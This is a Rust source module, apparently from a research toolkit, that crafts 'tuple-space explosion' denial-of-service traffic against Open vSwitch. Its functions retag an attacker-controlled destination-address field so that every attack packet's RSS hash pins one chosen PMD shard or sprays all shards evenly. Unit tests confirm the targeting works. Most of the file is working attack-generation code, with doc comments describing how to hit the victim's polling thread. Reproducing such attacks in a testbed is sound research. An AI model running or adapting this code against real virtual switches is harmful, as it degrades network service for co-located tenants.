//! Shard-aware attack crafting: aiming the tuple-space explosion at a chosen PMD.
//!
//! On a multi-PMD switch every RX queue (shard) owns a private megaflow cache, and the
//! NIC's RSS hash of the 5-tuple decides which cache a packet poisons. The attacker
//! controls parts of that 5-tuple she does not need for the explosion itself — in the
//! co-located setting the destination address is her own service, so she can retag it
//! freely without changing which megaflow masks her packets spark (the ACLs of §5.2
//! never examine it, so its bits stay wildcarded). That freedom is enough to steer
//! *every* attack packet:
//!
//! * [`pin_to_shard`] retags a key stream so all keys hash to one chosen shard — the
//!   worst case from the paper's testbed, where the whole explosion lands on the PMD
//!   polling the victim's queue;
//! * [`spray_shards`] retags round-robin across all shards, poisoning every PMD's
//!   cache evenly (the strongest whole-switch attack).
//!
//! Both produce plain `Iterator<Item = Key>` adapters that compose with
//! [`AttackGenerator`](crate::source::AttackGenerator) exactly like the scenario key
//! iterators. The hash is [`tse_packet::rss`] — the same function the sharded
//! datapath steers with, so targeting is exact by construction.
//!
//! **Caveat:** the adapter hashes the keys it sees. Fields the downstream packet
//! crafting overrides must already hold their final value — in particular
//! `AttackGenerator` builds TCP packets, so set `ip_proto` to 6 in the base key the
//! scenario iterator fills in (noise fields like TTL are not hashed and stay free).

use tse_packet::fields::{FieldDef, FieldSchema, Key};
use tse_packet::rss::{self, RssHasher};

/// Whether a steered stream pins one shard or cycles through all of them.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum ShardTarget {
    Pin(usize),
    Spray,
}

/// Iterator adapter steering a key stream across shards (see [`pin_to_shard`] /
/// [`spray_shards`]). `Clone` when the inner iterator is, so it cycles like the
/// scenario iterators.
#[derive(Debug, Clone)]
pub struct ShardSteeredKeys<I> {
    inner: I,
    free_field: usize,
    free: FieldDef,
    /// Offsets from a key's own free-field value tried before giving up.
    tries: u128,
    /// The switch's steering function ([`tse_packet::rss`]), compiled once.
    hasher: RssHasher,
    n_shards: usize,
    target: ShardTarget,
    next_spray: usize,
}

impl<I> ShardSteeredKeys<I> {
    /// Retag `key`'s free field with the smallest non-negative offset from its current
    /// value that steers the key to `target`: hash and compare, `n_shards` hash
    /// evaluations expected.
    ///
    /// # Panics
    /// Panics if no value of the free field reaches the target shard (cannot happen for
    /// a field of ≥ 16 bits and realistic shard counts; guarded with a generous try
    /// cap).
    fn retag(&self, mut key: Key, target: usize) -> Key {
        let base = key.get(self.free_field);
        let mask = self.free.full_mask();
        for v in 0..self.tries {
            key.set(self.free_field, base.wrapping_add(v) & mask);
            if self.hasher.shard_of(&key) == target {
                return key;
            }
        }
        panic!(
            "no value of field {} steers the key to shard {target}/{}",
            self.free.name, self.n_shards
        );
    }
}

impl<I: Iterator<Item = Key>> Iterator for ShardSteeredKeys<I> {
    type Item = Key;

    fn next(&mut self) -> Option<Key> {
        let key = self.inner.next()?;
        let target = match self.target {
            ShardTarget::Pin(s) => s,
            ShardTarget::Spray => {
                let t = self.next_spray;
                self.next_spray = (self.next_spray + 1) % self.n_shards;
                t
            }
        };
        Some(self.retag(key, target))
    }
}

/// The adapter behind [`pin_to_shard`] / [`spray_shards`]. Everything that can be
/// checked without a key is checked here, once: panics if `n_shards` is zero or
/// `free_field` is not RSS-hashed (retagging it could never move a key).
fn steered<I>(
    schema: &FieldSchema,
    keys: I,
    free_field: usize,
    n_shards: usize,
    target: ShardTarget,
) -> ShardSteeredKeys<I> {
    let hash_fields = rss::rss_fields(schema);
    let free = schema.fields()[free_field];
    assert!(
        hash_fields.contains(&free_field),
        "free field {} must participate in the RSS hash",
        free.name
    );
    ShardSteeredKeys {
        inner: keys,
        free_field,
        free,
        tries: (1u128 << free.width.min(20)).max(64 * n_shards as u128),
        hasher: RssHasher::new(&hash_fields, n_shards, rss::DEFAULT_HASH_KEY),
        n_shards,
        target,
        next_spray: 0,
    }
}

/// Steer every key of `keys` to `shard` (of `n_shards`) by retagging `free_field` —
/// the shard-pinned explosion. `free_field` must be RSS-hashed but not examined by the
/// target ACL (the co-located attacker's own destination address is the canonical
/// choice), so the retag changes placement without changing the megaflows sparked.
pub fn pin_to_shard<I: Iterator<Item = Key>>(
    schema: &FieldSchema,
    keys: I,
    free_field: usize,
    n_shards: usize,
    shard: usize,
) -> ShardSteeredKeys<I> {
    assert!(shard < n_shards, "target shard out of range");
    steered(schema, keys, free_field, n_shards, ShardTarget::Pin(shard))
}

/// Steer the keys of `keys` round-robin over all `n_shards` shards by retagging
/// `free_field` — every PMD's cache is poisoned at the same rate.
pub fn spray_shards<I: Iterator<Item = Key>>(
    schema: &FieldSchema,
    keys: I,
    free_field: usize,
    n_shards: usize,
) -> ShardSteeredKeys<I> {
    steered(schema, keys, free_field, n_shards, ShardTarget::Spray)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::scenarios::Scenario;

    fn tcp_base(schema: &FieldSchema) -> Key {
        let mut base = schema.zero_value();
        base.set(schema.field_index("ip_proto").unwrap(), 6);
        base.set(schema.field_index("ip_dst").unwrap(), 0x0a00_00c8);
        base
    }

    #[test]
    fn pinned_keys_all_land_on_the_target_shard() {
        let schema = FieldSchema::ovs_ipv4();
        let ip_dst = schema.field_index("ip_dst").unwrap();
        let hasher = RssHasher::new(&rss::rss_fields(&schema), 4, rss::DEFAULT_HASH_KEY);
        for target in 0..4 {
            let keys: Vec<Key> = pin_to_shard(
                &schema,
                Scenario::SpDp.key_iter(&schema, &tcp_base(&schema)),
                ip_dst,
                4,
                target,
            )
            .collect();
            assert_eq!(keys.len(), 17 * 17);
            for k in &keys {
                assert_eq!(hasher.shard_of(k), target);
            }
        }
    }

    #[test]
    fn retag_touches_only_the_free_field() {
        let schema = FieldSchema::ovs_ipv4();
        let ip_dst = schema.field_index("ip_dst").unwrap();
        let originals: Vec<Key> = Scenario::SipDp
            .key_iter(&schema, &tcp_base(&schema))
            .collect();
        let pinned: Vec<Key> =
            pin_to_shard(&schema, originals.iter().cloned(), ip_dst, 8, 5).collect();
        for (orig, steered) in originals.iter().zip(&pinned) {
            for f in 0..schema.field_count() {
                if f != ip_dst {
                    assert_eq!(orig.get(f), steered.get(f), "field {f} must be preserved");
                }
            }
        }
    }

    #[test]
    fn spray_cycles_through_every_shard() {
        let schema = FieldSchema::ovs_ipv4();
        let ip_dst = schema.field_index("ip_dst").unwrap();
        let hasher = RssHasher::new(&rss::rss_fields(&schema), 3, rss::DEFAULT_HASH_KEY);
        let keys: Vec<Key> = spray_shards(
            &schema,
            Scenario::Dp.key_iter(&schema, &tcp_base(&schema)),
            ip_dst,
            3,
        )
        .collect();
        assert_eq!(keys.len(), 17);
        for (i, k) in keys.iter().enumerate() {
            assert_eq!(hasher.shard_of(k), i % 3);
        }
    }

    #[test]
    fn steered_iterator_is_cloneable_and_cycles() {
        let schema = FieldSchema::ovs_ipv4();
        let ip_dst = schema.field_index("ip_dst").unwrap();
        let gen = pin_to_shard(
            &schema,
            Scenario::Dp.key_iter(&schema, &tcp_base(&schema)),
            ip_dst,
            4,
            2,
        );
        let cycled: Vec<Key> = gen.clone().cycle().take(40).collect();
        let one_pass: Vec<Key> = gen.collect();
        assert_eq!(cycled[17], one_pass[0], "cycle replays deterministically");
        let hasher = RssHasher::new(&rss::rss_fields(&schema), 4, rss::DEFAULT_HASH_KEY);
        assert!(cycled.iter().all(|k| hasher.shard_of(k) == 2));
    }

    #[test]
    #[should_panic(expected = "must participate in the RSS hash")]
    fn non_hashed_free_field_is_rejected() {
        let schema = FieldSchema::ovs_ipv4();
        let ttl = schema.field_index("ttl").unwrap();
        let _ = pin_to_shard(
            &schema,
            Scenario::Dp.key_iter(&schema, &schema.zero_value()),
            ttl,
            4,
            0,
        );
    }
}
